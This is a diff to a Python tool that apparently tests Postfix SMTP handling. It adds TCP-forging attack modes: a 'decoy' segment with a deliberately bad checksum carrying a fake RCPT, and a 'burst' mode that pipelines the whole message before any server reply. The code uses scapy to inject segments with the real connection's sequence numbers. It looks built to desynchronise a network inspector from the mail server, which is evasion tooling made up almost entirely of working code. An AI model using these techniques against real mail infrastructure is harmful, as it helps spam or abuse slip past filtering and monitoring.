@@ -17,6 +17,12 @@ HOW:
   ack     after the greeting, a forged pure ACK of 50,000 server bytes never
           sent, a DATA the server refuses (503), then the attempt
   pad     the RCPT line padded with 1,100 spaces (Postfix reads 2,048)
+  burst   EHLO, MAIL, RCPT (a local one), DATA, the message and QUIT in one
+          write before any reply (RFC 2920 forbids sending the body before
+          the 354); prints "reply <code>" for each reply that comes
+  decoy   after MAIL, a forged segment with a bad TCP checksum carrying a
+          local RCPT (Linux drops it, Postfix never reads it), then the
+          real RCPT at the same sequence number
 
 The forged segments (scapy, at layer 2 to MAC out of IF) carry the real
 connection's 4-tuple and sequence numbers, read from a capture of the
@@ -48,20 +54,25 @@ class Forger:
         from scapy.all import TCP
         return TCP in p and 25 in (p[TCP].sport, p[TCP].dport)
 
-    def forge(self, how, sport):
+    def forge(self, how, sport, payload=b""):
         from scapy.all import IP, TCP, Ether, Raw, sendp
         time.sleep(0.2)
         pkts = [p for p in list(self.seen)
                 if sport in (p[TCP].sport, p[TCP].dport)]
-        syn = [p for p in pkts if p[TCP].dport == 25 and p[TCP].flags.S]
+        cli = [p for p in pkts if p[TCP].dport == 25 and
+               (p[TCP].flags.S or Raw in p)]
         srv = [p for p in pkts if p[TCP].sport == 25 and Raw in p]
-        if not syn or not srv:
+        if not cli or not srv:
             raise SystemExit("forge: the session was not captured")
-        cseq = syn[-1][TCP].seq + 1
+        last = cli[-1][TCP]
+        cseq = last.seq + (1 if last.flags.S else len(cli[-1][Raw].load))
         sseq = srv[-1][TCP].seq + len(srv[-1][Raw].load)
         ip = Ether(dst=self.a.gw_mac) / IP(src=self.a.src, dst=self.a.server)
         t = dict(sport=sport, dport=25)
-        if how == "rst":
+        if how == "decoy":
+            seg = TCP(flags="PA", seq=cseq, ack=sseq, chksum=0xdead,
+                      **t) / Raw(payload)
+        elif how == "rst":
             seg = TCP(flags="R", seq=(cseq + (1 << 30)) & 0xffffffff, **t)
         elif how == "syn":
             seg = TCP(flags="S", seq=(cseq + 123456789) & 0xffffffff, **t)
@@ -73,10 +84,15 @@ class Forger:
         time.sleep(0.3)  # whatever Linux answers, it has answered
 
 
-def transaction(sock, f, a, rcpt, pad=0):
+def transaction(sock, f, a, rcpt, pad=0, forger=None):
     """MAIL, RCPT, DATA, message; False when the session was cut off."""
     if step(sock, f, "MAIL", f"MAIL FROM:<{a.sender}>\r\n".encode()) is None:
         return False
+    if forger and a.how == "decoy":
+        # as long as the real line: the decoy covers it all
+        local = "u" * max(1, len(rcpt) - len("@example.test")) + "@example.test"
+        forger.forge("decoy", sock.getsockname()[1],
+                     f"RCPT TO:<{local}>\r\n".encode())
     line = f"RCPT TO:<{rcpt}>" + " " * pad + "\r\n"
     code = step(sock, f, "RCPT", line.encode())
     if code is None or not code.startswith("2"):
@@ -90,7 +106,7 @@ def transaction(sock, f, a, rcpt, pad=0):
 
 
 def session(a):
-    forger = Forger(a) if a.how in ("rst", "syn", "ack") else None
+    forger = Forger(a) if a.how in ("rst", "syn", "ack", "decoy") else None
     sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
     sock.settimeout(a.timeout)
     sock.bind((a.src, 0))
@@ -103,7 +119,14 @@ def session(a):
     f = sock.makefile("rb")
     if step(sock, f, "greeting", b"") is None:
         return
-    if forger:
+    if a.how == "burst":
+        sock.sendall((f"EHLO bot.lab.test\r\nMAIL FROM:<{a.sender}>\r\n"
+                      f"RCPT TO:<{a.local}>\r\nDATA\r\nSubject: burst\r\n"
+                      "\r\nhello\r\n.\r\nQUIT\r\n").encode())
+        while step(sock, f, "reply", b"") is not None:
+            pass
+        return
+    if forger and a.how != "decoy":
         forger.forge(a.how, sock.getsockname()[1])
         if a.how == "ack" and step(sock, f, "DATA", b"DATA\r\n") is None:
             return
@@ -111,7 +134,8 @@ def session(a):
         return
     if a.how == "second" and not transaction(sock, f, a, a.local):
         return
-    if not transaction(sock, f, a, a.rcpt, 1100 if a.how == "pad" else 0):
+    if not transaction(sock, f, a, a.rcpt, 1100 if a.how == "pad" else 0,
+                       forger):
         return
     step(sock, f, "QUIT", b"QUIT\r\n")
     sock.close()
@@ -122,7 +146,8 @@ def main():
     p.add_argument("--server", required=True)
     p.add_argument("--src", required=True)
     p.add_argument("--how", required=True,
-                   choices=("second", "rst", "syn", "ack", "pad"))
+                   choices=("second", "rst", "syn", "ack", "pad", "decoy",
+                            "burst"))
     p.add_argument("--gw-mac")
     p.add_argument("--iface")
     p.add_argument("--sender", default="bot@attacker.invalid")
@@ -131,7 +156,7 @@ def main():
     p.add_argument("--pause", type=float, default=0.3)
     p.add_argument("--timeout", type=float, default=2.0)
     a = p.parse_args()
-    if a.how in ("rst", "syn", "ack") and not (a.gw_mac and a.iface):
+    if a.how in ("rst", "syn", "ack", "decoy") and not (a.gw_mac and a.iface):
         p.error(f"--how {a.how} needs --gw-mac and --iface")
     session(a)
 
